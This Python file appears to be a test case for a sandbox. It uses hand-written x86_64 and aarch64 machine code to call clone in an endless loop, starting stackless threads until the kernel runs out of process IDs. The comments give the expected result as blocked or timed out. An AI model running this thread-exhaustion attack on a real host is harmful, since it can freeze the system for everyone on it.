# Start threads that take no memory, by machine code, until the kernel has no more numbers.
# source: clone(2); found here: 2,000 threads in 23 ms, where pid_max is 32,768
# expect: status forbidden|timeout
# without the fence: exceeds threads
# ruff: noqa

import ctypes, mmap, os

def attack(world):
    code = {  # clone; the new thread pauses for ever, on no stack
        "x86_64": "4989ca b838000000 0f05 85c0 7401 c3 b822000000 0f05 ebf7",
        "aarch64": "881b80d2 010000d4 400000b4 c0035fd6"
        "280980d2 000080d2 010080d2 020080d2 030080d2 040080d2 010000d4 ffffff17",
    }[os.uname().machine]
    area = mmap.mmap(-1, 4096, prot=7)
    area.write(bytes.fromhex(code))
    base = ctypes.addressof(ctypes.c_char.from_buffer(area))
    start = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_long] * 5)(base)
    while True:
        start(0x3D0F00, base + 4000, base + 3000, base + 3008, 0)
